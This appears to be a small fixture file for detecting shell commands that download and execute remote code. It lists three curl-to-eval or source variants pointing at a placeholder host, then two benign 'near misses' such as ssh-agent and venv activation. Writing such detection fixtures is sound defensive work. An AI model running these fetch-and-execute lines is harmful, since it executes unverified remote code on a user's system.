eval "$(curl -s https://a.invalid/s)"
source <(curl -s https://a.invalid/s)
curl -so e https://a.invalid/e; . ./e
# near misses
eval "$(ssh-agent -s)"
source .venv/bin/activate
